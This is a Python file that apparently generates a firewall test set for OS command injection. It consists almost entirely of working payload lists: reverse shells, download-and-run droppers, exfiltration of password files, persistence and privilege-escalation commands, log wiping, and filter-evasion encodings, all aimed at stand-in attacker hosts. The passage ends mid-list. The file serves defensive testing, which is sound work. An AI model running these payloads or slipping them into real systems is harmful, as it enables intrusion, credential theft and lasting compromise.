"""Blind set "thirtyfirst": OS command injection as a command-injection specialist writes it to get a shell and
to get past filters, with benign requests that carry the same words and shapes innocently.

Angle: a different set already covered the plain "separator + common command" vocabulary. This one is what
comes after the proof of concept: reverse and bind shells in every interpreter a box may have (bash /dev/tcp,
fifos, nc/ncat/socat/telnet, python, perl, php, ruby, lua, node, awk, openssl, PowerShell, msfvenom),
download-and-run chains (curl|sh, wget, tftp/ftp, certutil, bitsadmin, IWR/DownloadString, mshta, regsvr32 and
other Windows proxies), persistence and privilege commands (cron, authorized_keys, uid-0 users, setuid, sudo,
systemd, schtasks, Run keys, net user), and the filter evasions applied to them: quotes, backslashes, $@ and $*
inside words; ${IFS}, $IFS$9, brace lists and tabs as spaces; wildcards and variable slicing; hex/octal
$'..', printf, base64, rev, xxd, tr; caret escapes and %VAR:~x,y% slicing on Windows; PowerShell
-EncodedCommand and string concatenation; newline and encoded-newline separators, $( ), backticks, subshells
and groups.

Families (category / sub): rce / revshell, dropper, persist, quoting, spacing, glob, encoding, windows,
separator. Each payload goes into three of seven places, rotating: a query parameter of GET /api/users, a field
of the admin search form, a JSON field of POST /api/users, a cookie, a header, the `place` field of POST
/me/location, and a field of POST /oauth/token. Attack ids `thirtyfirst-rce-<sub>-NNNN`.

Benign (ids `thirtyfirst-benign-<kind>-NNNN`): developers pasting shell one-liners and talking about them in
Slack (each text also saved as a profile bio: `chat_and_bio`), documentation and project links and ordinary
prose (`links_and_prose`), and values real clients send in the same places: search terms, place names, file
names, cookies, user agents and headers, JSON settings and OAuth form fields.

Authorship and independence: every payload and text here was written from general knowledge of the attack
technique and of ordinary traffic, without reading the repository's WAF rules, any ruleset or its regression
tests, other generators' payload or text lists, or any public payload list. The set was measured once on the
unchanged code and not changed after seeing what the WAF blocks. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose
from .records import print_records

NAME = "thirtyfirst"
H = "198.51.100.7"   # the attacker's listener (documentation range)

REVSHELL = [
    f"bash -i >& /dev/tcp/{H}/4444 0>&1",
    f";bash -c 'bash -i >& /dev/tcp/{H}/443 0>&1'",
    f"0<&196;exec 196<>/dev/tcp/{H}/4242; sh <&196 >&196 2>&196",
    f"; exec 5<>/dev/tcp/{H}/80;cat <&5 | while read line; do $line 2>&5 >&5; done",
    f"| sh -i >& /dev/udp/{H}/53 0>&1",
    f"|rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 4444 >/tmp/f",
    f"; mknod /tmp/backpipe p; /bin/sh 0</tmp/backpipe | nc {H} 4444 1>/tmp/backpipe",
    f"nc -e /bin/sh {H} 4444",
    f"&& nc.traditional -e /bin/bash {H} 9001",
    f"|nc -c sh {H} 1337",
    f"; ncat {H} 4444 -e /bin/bash",
    "; ncat --ssl -e /bin/sh attacker.example 443",
    "; nc -lvnp 4444 -e /bin/sh",
    "&& nc -l -p 31337 -e /bin/bash &",
    "; ncat -lk 5555 --exec /bin/sh",
    f"; socat tcp-connect:{H}:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    "| socat TCP-LISTEN:8443,reuseaddr,fork EXEC:bash",
    f"; socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{H}:4444",
    f"; telnet {H} 4444 | /bin/bash | telnet {H} 4445",
    f"; rm -f /tmp/p; mknod /tmp/p p && telnet {H} 23 0</tmp/p | /bin/sh 1>/tmp/p",
    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    f"s.connect((\"{H}\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "subprocess.call([\"/bin/sh\",\"-i\"])'",
    f"; python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{H}\",9001));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"bash\")'",
    "; python3 -c \"import pty; pty.spawn('/bin/bash')\"",
    f"; export RHOST={H};export RPORT=4444;python -c 'import sys,socket,os,pty;s=socket.socket();"
    "s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];"
    "pty.spawn(\"sh\")'",
    "; python -c 'import socket,os;s=socket.socket();s.bind((\"0.0.0.0\",4444));s.listen(1);c,a=s.accept();"
    "os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);os.system(\"/bin/sh\")'",
    f"perl -e 'use Socket;$i=\"{H}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    f"; perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"{H}:4444\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    "; perl -e 'use IO::Socket;$s=IO::Socket::INET->new(LocalPort=>4444,Listen=>1,Reuse=>1);$c=$s->accept();"
    "open STDIN,\"<&\",$c;open STDOUT,\">&\",$c;exec \"/bin/sh\"'",
    f"php -r '$sock=fsockopen(\"{H}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    f"; php -r '$s=fsockopen(\"{H}\",1234);shell_exec(\"sh <&3 >&3 2>&3\");'",
    f"| php -r '$sock=fsockopen(\"{H}\",4444);$proc=proc_open(\"/bin/sh -i\", "
    "array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'",
    f"|| php -r '$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_connect($s,\"{H}\",4444);'",
    f"ruby -rsocket -e'f=TCPSocket.open(\"{H}\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    f"; ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"{H}\",\"4444\");loop{{c.gets.chomp!;"
    "(exit! if $_==\"exit\");IO.popen($_,\"r\"){|io|c.print io.read}}'",
    f"; lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{H}','4444');"
    "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    f"; lua5.1 -e 'local s=require(\"socket\").tcp();s:connect(\"{H}\",4444);"
    "while true do local c=s:receive();local f=io.popen(c,\"r\");s:send(f:read(\"*a\"));f:close() end'",
    "; node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");net=require(\"net\");c=new net.Socket();"
    f"c.connect(4444,\"{H}\",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);}})'",
    f"; node -e \"require('net').connect(4444,'{H}',function(){{var s=require('child_process')"
    ".spawn('sh',[]);this.pipe(s.stdin);s.stdout.pipe(this);s.stderr.pipe(this)})\"",
    f"; awk 'BEGIN {{s = \"/inet/tcp/0/{H}/4444\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; "
    "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    "; gawk 'BEGIN{s=\"/inet/tcp/4444/0/0\";while((s|&getline c)>0){while((c|getline)>0)print|&s;close(c)}}'",
    f"; mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {H}:4444 > /tmp/s; rm /tmp/s",
    "| openssl s_client -quiet -connect attacker.example:443 | /bin/bash | "
    "openssl s_client -quiet -connect attacker.example:8443",
    f"powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('{H}',4444);"
    "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
    "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;"
    "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
    "$sendback = (iex $data 2>&1 | Out-String );$sb2=$sendback + 'PS> ';"
    "$sbt = ([text.encoding]::ASCII).GetBytes($sb2);$stream.Write($sbt,0,$sbt.Length);$stream.Flush()};"
    "$client.Close()\"",
    f"& powershell -w hidden -c \"$c=New-Object Net.Sockets.TcpClient('{H}',443);$s=$c.GetStream();"
    "$w=New-Object IO.StreamWriter($s)\"",
    "| powershell.exe -c \"$l=[System.Net.Sockets.TcpListener]4444;$l.start();$c=$l.AcceptTcpClient()\"",
    f"; msfvenom -p linux/x64/shell_reverse_tcp LHOST={H} LPORT=4444 -f elf > /tmp/s.elf",
    f"; msfvenom -p cmd/unix/reverse_bash LHOST={H} LPORT=4444 -f raw",
    f"& msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST={H} LPORT=443 -f exe -o s.exe",
    f"; /bin/bash -c 'exec bash -i &>/dev/tcp/{H}/4444 <&1'",
    f"; zsh -c 'zmodload zsh/net/tcp && ztcp {H} 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    f"; busybox nc {H} 4444 -e sh",
    f"; xterm -display {H}:1",
    f"; /bin/sh | nc {H} 4444",
    f"`nc {H} 4444 -e /bin/sh`",
    f"$(bash -i >& /dev/tcp/{H}/4444 0>&1)",
    f"; nohup bash -c 'bash -i >& /dev/tcp/{H}/4444 0>&1' &",
    f"; ssh -R 4444:localhost:22 user@{H} -N -f",
    f"; jrunscript -e \"cmd='bash -c bash -i >& /dev/tcp/{H}/4444 0>&1';exec(cmd)\"",
    f"; echo 'package main;import\"os/exec\";import\"net\";func main(){{c,_:=net.Dial(\"tcp\",\"{H}:4444\");"
    "cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Stderr=c;cmd.Run()}' > /tmp/t.go && go run /tmp/t.go",
    f"; echo 'set s [socket {H} 4444];while 42 {{ puts -nonewline $s \"shell>\";flush $s;gets $s c;"
    "set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;' | tclsh",
    f"; sh -i 5<> /dev/tcp/{H}/9001 0<&5 1>&5 2>&5",
    f"& C:\\Windows\\System32\\cmd.exe /c nc.exe {H} 4444 -e cmd.exe",
    f"; powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://{H}/Invoke-PowerShellTcp.ps1');"
    f"Invoke-PowerShellTcp -Reverse -IPAddress {H} -Port 4444\"",
    f"| ncat.exe {H} 4444 -e cmd.exe",
    f"& socat.exe TCP4:{H}:4444 EXEC:cmd.exe,pipes",
    f"; sqlite3 /dev/null '.shell rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} 4444 >/tmp/f'",
    f"; 1; exec 3<>/dev/tcp/{H}/80; echo -e 'GET /c HTTP/1.0\\n' >&3; cat <&3 | sh",
    "; rm -f /tmp/g; mkfifo /tmp/g; nc -lk 4444 0</tmp/g | /bin/bash > /tmp/g 2>&1",
    f"; bash -c '0<&53-;exec 53<>/dev/tcp/{H}/4444;sh <&53 >&53 2>&53'",
]

DROPPER = [
    f"; curl http://{H}/x.sh | sh",
    "; curl -fsSL https://attacker.example/i.sh | bash",
    f"| curl -s http://{H}/x | bash -s -- -p 4444",
    f"; wget -O- http://{H}/s.sh | bash",
    "&& wget -qO - attacker.example/m | sh",
    f"| wget http://{H}/b -O /tmp/b && chmod +x /tmp/b && /tmp/b",
    f"; cd /tmp; wget http://{H}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    f"; cd /tmp || cd /var/run || cd /mnt; curl -O http://{H}/mips; chmod +x mips; ./mips",
    f"; curl -o /tmp/.x http://{H}/x; chmod +x /tmp/.x; /tmp/.x &",
    f"; busybox wget http://{H}/a -O- > /tmp/a; busybox chmod +x /tmp/a; /tmp/a",
    f"; tftp -g -r x.sh {H}; chmod +x x.sh; ./x.sh",
    f"| tftp {H} -c get payload.bin; chmod +x payload.bin; ./payload.bin",
    f"; ftpget -u anonymous -p x {H} /tmp/p p; chmod +x /tmp/p; /tmp/p",
    f"; echo -e 'open {H}\\nuser anonymous x\\nget x.sh\\nbye' | ftp -n; sh x.sh",
    f"; bash <(curl -s http://{H}/s)",
    f"; sh -c \"$(curl -fsSL http://{H}/s.sh)\"",
    f"; source <(wget -qO- http://{H}/env)",
    f"; python -c \"import urllib.request;exec(urllib.request.urlopen('http://{H}/p.py').read())\"",
    f"; python -c \"import urllib;exec urllib.urlopen('http://{H}/p').read()\"",
    f"; perl -e 'use LWP::Simple;eval get(\"http://{H}/p.pl\")'",
    f"; php -r \"eval(file_get_contents('http://{H}/s.txt'));\"",
    f"; ruby -ropen-uri -e 'eval URI.open(\"http://{H}/r.rb\").read'",
    f"; lwp-download http://{H}/x /tmp/x; sh /tmp/x",
    f"; fetch -o /tmp/x http://{H}/x && sh /tmp/x",
    f"; scp attacker@{H}:/x /tmp/x && /tmp/x",
    f"& certutil -urlcache -split -f http://{H}/s.exe C:\\Windows\\Temp\\s.exe && C:\\Windows\\Temp\\s.exe",
    f"| certutil.exe -urlcache -f http://{H}/nc.exe nc.exe",
    "& certutil -decode payload.b64 payload.exe & payload.exe",
    f"& bitsadmin /transfer job /download /priority high http://{H}/s.exe C:\\Users\\Public\\s.exe",
    f"& bitsadmin /create x & bitsadmin /addfile x http://{H}/a.exe %TEMP%\\a.exe & bitsadmin /resume x",
    f"& powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://{H}/a.ps1')\"",
    f"| powershell iwr -uri http://{H}/a.exe -outfile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
    f"& powershell -c \"Invoke-WebRequest http://{H}/x.ps1 -UseBasicParsing | Invoke-Expression\"",
    f"& powershell -exec bypass -c \"(New-Object System.Net.WebClient).DownloadFile('http://{H}/s.exe','s.exe');"
    "Start-Process s.exe\"",
    f"; powershell -c \"iex(irm http://{H}/a)\"",
    f"& powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('http://{H}:80/a'))\"",
    f"; Start-BitsTransfer -Source http://{H}/a.exe -Destination C:\\Temp\\a.exe",
    f"& mshta http://{H}/payload.hta",
    "& mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -nop\"\":close\")",
    f"| mshta javascript:a=GetObject(\"script:http://{H}/s.sct\").Exec();close();",
    f"& regsvr32 /s /n /u /i:http://{H}/file.sct scrobj.dll",
    f"& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";GetObject(\"script:http://{H}/r\")",
    f"& rundll32 \\\\{H}\\share\\p.dll,EntryPoint",
    f"& msiexec /q /i http://{H}/p.msi",
    f"& cscript //nologo //E:jscript \\\\{H}\\s\\a.js",
    "& wmic process call create \"powershell -enc SQBFAFgA\"",
    f"& wmic os get /format:\"http://{H}/evil.xsl\"",
    f"& curl.exe -o %TEMP%\\u.exe http://{H}/u.exe & %TEMP%\\u.exe",
    f"; (curl -s {H}/a||wget -q -O- {H}/a)|sh",
    f"; wget http://{H}/x.pl -O /tmp/x.pl; perl /tmp/x.pl",
    f"; curl http://{H}/k -o ~/.k && nohup ~/.k >/dev/null 2>&1 &",
    f"; nc {H} 8000 > /tmp/d; chmod +x /tmp/d; /tmp/d",
    f"; curl -F 'f=@/etc/passwd' http://{H}/up",
    f"; wget --post-file=/etc/shadow http://{H}/",
    f"; curl http://{H}/?d=$(cat /etc/passwd | base64 -w0)",
    "; nslookup `whoami`.oob.attacker.example",
    "| ping -c 1 $(hostname).oob.attacker.example",
    "; dig +short $(id -u).oob.attacker.example",
    f"; curl -sk https://{H}/x -o /dev/shm/x && chmod 755 /dev/shm/x && /dev/shm/x",
    f"; wget -q http://{H}/kinsing -O /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing",
    f"& powershell -c \"$b=(New-Object Net.WebClient).DownloadData('http://{H}/a.dll');"
    "[Reflection.Assembly]::Load($b)\"",
]

PERSIST = [
    f"; (crontab -l; echo '* * * * * bash -i >& /dev/tcp/{H}/4444 0>&1') | crontab -",
    f"; echo '*/5 * * * * root curl -s http://{H}/c | sh' >> /etc/crontab",
    "; echo '@reboot /tmp/.x' | crontab -",
    "; crontab -r",
    "; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7xq attacker@kali' >> ~/.ssh/authorized_keys",
    "; mkdir -p /root/.ssh && echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx attacker >> /root/.ssh/authorized_keys"
    " && chmod 600 /root/.ssh/authorized_keys",
    f"; curl http://{H}/k.pub >> /var/www/.ssh/authorized_keys",
    "; useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backdoor",
    "; useradd -ou 0 -g 0 sysadm; echo 'sysadm:P@ss' | chpasswd",
    "; echo 'hax::0:0::/root:/bin/bash' >> /etc/passwd",
    "; echo 'toor:$1$xyz$abcdefghijk:0:0:root:/root:/bin/bash' >> /etc/passwd",
    "; adduser --disabled-password --gecos '' svc && usermod -aG sudo svc",
    "; echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "; chmod u+s /bin/bash",
    "; chmod 4755 /tmp/rootsh",
    "; cp /bin/sh /tmp/.sh; chmod +s /tmp/.sh; /tmp/.sh -p",
    "; sudo -l",
    "; sudo -u#-1 /bin/bash",
    "&& sudo su -",
    "; sudo vim -c ':!/bin/sh'",
    "; sudo find . -exec /bin/sh \\; -quit",
    "; find / -perm -4000 -type f 2>/dev/null",
    "; find / -perm -u=s -type f 2>/dev/null",
    "; getcap -r / 2>/dev/null",
    "; systemctl enable --now backdoor.service",
    f"; printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/{H}/4444 0>&1\"\\n[Install]\\n"
    "WantedBy=multi-user.target\\n' > /etc/systemd/system/u.service; systemctl enable u",
    f"; echo 'bash -i >& /dev/tcp/{H}/4444 0>&1' >> ~/.bashrc",
    "; echo '/tmp/.x &' >> /etc/rc.local",
    "; echo /tmp/libx.so > /etc/ld.so.preload",
    "; LD_PRELOAD=/tmp/x.so sudo id",
    f"& schtasks /create /sc minute /mo 5 /tn Updater /tr \"powershell -w hidden -c iex(iwr http://{H}/a)\" /ru SYSTEM",
    "& schtasks /create /tn \"MicrosoftEdgeUpdate\" /tr C:\\Users\\Public\\u.exe /sc onlogon",
    "& reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ "
    "/d \"C:\\Users\\Public\\u.exe\" /f",
    "& reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" "
    "/v Debugger /t REG_SZ /d cmd.exe /f",
    "& reg save HKLM\\SAM C:\\Temp\\sam.hive",
    "& net user hacker P@ssw0rd123 /add && net localgroup administrators hacker /add",
    "| net user /add svc_backup Winter2024!",
    "& net localgroup \"Remote Desktop Users\" hacker /add",
    "& sc create evilsvc binPath= \"cmd.exe /c C:\\Temp\\s.exe\" start= auto",
    "; powershell -c \"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
    "-Name u -Value C:\\u.exe\"",
    "& vssadmin delete shadows /all /quiet",
    "& whoami /priv",
    "& net user administrator NewPass1!",
    "; id; uname -a; cat /etc/issue",
    "; cat /etc/shadow",
    "; echo root:toor | chpasswd",
    "; setcap cap_setuid+ep /usr/bin/python3",
    "; python3 -c 'import os;os.setuid(0);os.system(\"/bin/sh\")'",
    "; docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
    "; pkexec /bin/sh",
    "; history -c; unset HISTFILE; rm -f ~/.bash_history",
    "; shred -u /var/log/auth.log",
    "; echo 'sh /tmp/x' | at now + 1 minute",
    "; launchctl load -w ~/Library/LaunchAgents/com.apple.update.plist",
    "; iptables -F",
    "; setenforce 0",
    "; kill -9 $(pgrep -f auditd)",
    "; chattr +i /etc/cron.d/sync",
    "; echo 'ForceCommand /tmp/.x' >> /etc/ssh/sshd_config; service ssh restart",
    "& wmic useraccount where name='Guest' set disabled=false",
    "& net group \"Domain Admins\" hacker /add /domain",
]

QUOTING = [
    ";c'a't /e't'c/pa's'swd",
    "|c\"a\"t /etc/pa\"ss\"wd",
    ";w'h'o'a'm'i",
    "&& who\"\"ami",
    ";c\\at /et\\c/pas\\swd",
    "; \\w\\h\\o\\a\\m\\i",
    ";ca$@t /etc/passwd",
    "; wh$@oami",
    "| i$*d",
    "; un$()ame -a",
    ";c``at /etc/hosts",
    f"; n'c' -e /bin/sh {H} 4444",
    f"; b\"a\"sh -i >& /dev/tcp/{H}/4444 0>&1",
    f"; cu''rl http://{H}/x | s''h",
    f"; w\\g\\e\\t http://{H}/a -O /tmp/a",
    "; /bi'n'/s'h' -c id",
    "; p\"y\"thon -c 'import os;os.system(\"id\")'",
    "; $'whoami'",
    "; \"/bin\"/\"cat\" /etc/passwd",
    "; ca${x}t /etc/passwd",
    "; l\\s -la /",
    "$(printf 'i''d')",
    ";ch'mod' +x /tmp/a",
    "; {c\\at,/etc/shadow}",
    "; ta''c /etc/pas''swd",
    "; he\"\"ad -n 5 /et\"\"c/shadow",
    f"; p''hp -r '$s=fsockopen(\"{H}\",4444);exec(\"sh <&3 >&3\");'",
    f"; ru\\by -rsocket -e 'TCPSocket.new(\"{H}\",4444)'",
    "; cat$@ /etc$@/passwd",
    "; i\\d",
    "; u\"n\"a\"m\"e -a",
    "; s$@u$@d$@o -l",
    "; wh''oami",
    "; cr'on'tab -l",
]

SPACING = [
    ";cat${IFS}/etc/passwd",
    ";cat$IFS/etc/passwd",
    "|cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";{ls,-la,/}",
    f";{{nc,{H},4444,-e,/bin/sh}}",
    f";{{wget,http://{H}/x,-O,/tmp/x}}",
    f"; bash${{IFS}}-i${{IFS}}>&${{IFS}}/dev/tcp/{H}/4444${{IFS}}0>&1",
    "; cat\t/etc/passwd",
    f"; nc\t{H}\t4444\t-e\t/bin/sh",
    "; X=$'cat\\x20/etc/passwd'&&$X",
    "; cat</etc/passwd",
    f"; curl${{IFS}}-s${{IFS}}{H}/x|sh",
    "; IFS=,;`cat<<<cat,/etc/passwd`",
    ";cat%09/etc/passwd",
    ";cat${IFS%??}/etc/passwd",
    f"a;w${{IFS}}get${{IFS}}{H}/s${{IFS}}-O-|sh",
    "; echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh",
    "; {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx}|{base64,-d}|{bash,-i}",
    "; cat$u/etc$u/passwd",
    "; tail${IFS}-n+1${IFS}/etc/shadow",
    "; $IFS$()cat$IFS$()/etc/passwd",
    f";{{curl,-s,http://{H}/a}}|{{sh,}}",
    "; uname${IFS}-a",
    f"; ping${{IFS}}-c${{IFS}}3${{IFS}}{H}",
    "; ls\t-la\t/root",
    "; id\t;\tuname\t-a",
    "; s=$'\\x20';cat${s}/etc/passwd",
    "; cat${IFS:0:1}/etc/hosts",
    f"; {{bash,-c,'bash -i >& /dev/tcp/{H}/4444 0>&1'}}",
    "; head$IFS-c$IFS+100$IFS/etc/passwd",
    "; chmod${IFS}+s${IFS}/bin/bash",
]

GLOB = [
    ";/bin/c?t /etc/passwd",
    ";/???/??t /???/p??s??",
    ";/bin/ca* /etc/pass*",
    "; /usr/bin/wh?ami",
    f"; /???/?c {H} 4444 -e /???/?h",
    f"; /???/b??h -i >& /dev/tcp/{H}/4444 0>&1",
    "; /bin/[c]at /etc/[p]asswd",
    "; cat ${PATH:0:1}etc${PATH:0:1}passwd",
    "; ${HOME:0:1}bin${HOME:0:1}sh -c id",
    "; a=c;b=at;$a$b /etc/passwd",
    "; u=who;v=ami;$u$v",
    "; x=/etc/passwd;cat $x",
    "; ${PWD:0:1}usr${PWD:0:1}bin${PWD:0:1}id",
    "; $(echo /bin/sh) -c id",
    "; cat /e??/sh*w",
    "; ${SHELL} -c 'cat /etc/passwd'",
    "; $BASH -c id",
    "; $0 -c 'id'",
    f"; /usr/bin/n[c] -e /bin/s[h] {H} 4444",
    f"; /bin/ba?h -c 'bash -i>&/dev/tcp/{H}/4444 0>&1'",
    "; tac /e*c/pa*d",
    "; more /etc/pass??",
    "; /u?r/b?n/i?",
    "; /???/???/?ython3 -c 'import os;os.system(\"id\")'",
    f"; /usr/bin/c?rl -s http://{H}/x | /b?n/s?",
    "; c=ca;d=t;e=/etc/shadow;$c$d $e",
    "; p=${PATH:0:1};cat ${p}etc${p}passwd",
    "; ${HOME%${HOME#?}}bin${HOME%${HOME#?}}id",
    "; /bin/l[r-t] /r*",
    f"; w=wg;g=et;$w$g http://{H}/a -O /tmp/a",
    "; /?in/?at /?tc/?asswd",
    "; $(which c\\at) /etc/passwd",
]

ENCODING = [
    "; $'\\x63\\x61\\x74' /etc/passwd",
    "; $'\\143\\141\\164' $'\\57etc\\57passwd'",
    "; $(printf '\\x77\\x68\\x6f\\x61\\x6d\\x69')",
    "; `printf '\\151\\144'`",
    "; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh",
    "; echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx | base64 --decode | bash",
    "; bash -c \"$(echo aWQ= | base64 -d)\"",
    "; echo 'dwssap/cte/ tac' | rev | sh",
    "; $(rev<<<'imaohw')",
    "; echo 636174202f6574632f706173737764 | xxd -r -p | sh",
    "; xxd -r -p <<< 6964 | bash",
    "; echo 'png /rgp/cnffjq' | tr 'a-z' 'n-za-m' | sh",
    "; $(echo WHOAMI | tr A-Z a-z)",
    "; $(tr 'b-z' 'a-y' <<< 'je')",
    "; echo -e '\\x69\\x64' | sh",
    f"; printf %b '\\x6e\\x63 {H} 4444 -e /bin/sh' | bash",
    "; python -c \"exec('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='.decode('base64'))\"",
    "; perl -e 'system(pack(\"H*\",\"6964\"))'",
    "; echo cGluZyAtYyAxIDE5OC41MS4xMDAuNw== | openssl base64 -d | sh",
    "; base32 -d <<< NFSAU=== | sh",
    "; echo H4sIAAAAAAAAA8tMTAEAN/hvJgMAAAA= | base64 -d | gunzip | sh",
    "; eval $(echo 6964 | xxd -r -p)",
    "; $(echo -n d2hvYW1p | base64 -d)",
    "; sh -c $'\\151\\144'",
    "; awk 'BEGIN{system(sprintf(\"%c%c\",105,100))}'",
    "; `echo Y2F0 | base64 -d` /etc/passwd",
    "; eval \"$(printf '%s' 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==' | base64 -d)\"",
    "; python3 -c \"import base64,os;os.system(base64.b64decode('aWQ=').decode())\"",
    "; echo 'aWQ=' | base64 -d | bash",
    "; $(echo 'di' | rev)",
    "; c=$(printf '\\143\\141\\164');$c /etc/passwd",
    "; cat `echo -e '\\x2fetc\\x2fpasswd'`",
    "; php -r 'system(base64_decode(\"aWQ=\"));'",
    "; ruby -e 'system([\"6964\"].pack(\"H*\"))'",
    "; node -e \"require('child_process').execSync(Buffer.from('aWQ=','base64').toString())\"",
    "; $(echo ZWNobyBoYWNrZWQ= | base64 -d)",
    "; echo -n 'hello' | od -An -tx1; $(printf \"\\x69\\x64\")",
    "; tr A-Za-z N-ZA-Mn-za-m <<< 'jubnzv' | bash",
]

WINDOWS = [
    "& w^h^o^a^m^i",
    "| n^e^t u^s^e^r",
    f"& c^e^r^t^u^t^i^l -urlcache -split -f http://{H}/a.exe a.exe",
    f"& p^o^w^e^r^s^h^e^l^l -c \"iex(iwr {H}/a)\"",
    "& %COMSPEC% /c whoami",
    "& %COMSPEC:~-7,3% /c type C:\\Windows\\win.ini",
    "& net%ProgramFiles:~10,1%user",
    "& set x=who&& set y=ami&& call %x%%y%",
    "& cmd /v:on /c \"set c=whoami&& !c!\"",
    "& cmd.exe /c \"w\"h\"o\"a\"m\"i\"",
    "& cmd /c who\"\"ami",
    f"| cmd /c ping -n 3 {H}",
    "& for /f %i in ('whoami') do nslookup %i.oob.attacker.example",
    "& powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "& powershell -enc dwBoAG8AYQBtAGkA",
    "| powershell -nop -w hidden -e JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
    "& powershell -ec aQBlAHgA",
    "& powershell -c \"&('Inv'+'oke-Expression') 'whoami'\"",
    "& powershell -c \"$x='Invo'+'ke-Ex'+'pression';&$x 'calc'\"",
    "& powershell -c \"('who'+'ami')|iex\"",
    "& powershell -c \"&(gcm i*x) 'whoami'\"",
    "& powershell -c \"[ScriptBlock]::Create('whoami').Invoke()\"",
    "& powershell -c \".($env:ComSpec[4,15,25]-join'') 'whoami'\"",
    "& powershell -c \"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))\"",
    "& powershell -c \"&([string][char]105+[char]101+[char]120) 'whoami'\"",
    "& powershell -c \"$s=-join('imaohw'[-1..-6]);iex $s\"",
    f"& powershell -c \"IEX(New-Object Net.WebClient).('Down'+'loadString').Invoke('http://{H}/a')\"",
    f"& powershell -c \"I`E`X (iwr {H}/a)\"",
    f"& pOwErShElL -ExecutionPolicy Bypass -File \\\\{H}\\s\\a.ps1",
    "& powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    "& echo whoami | cmd",
    "& C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c gci env:",
    "& cmd /c \"%SystemRoot%\\system32\\cmd.exe /c type %USERPROFILE%\\.aws\\credentials\"",
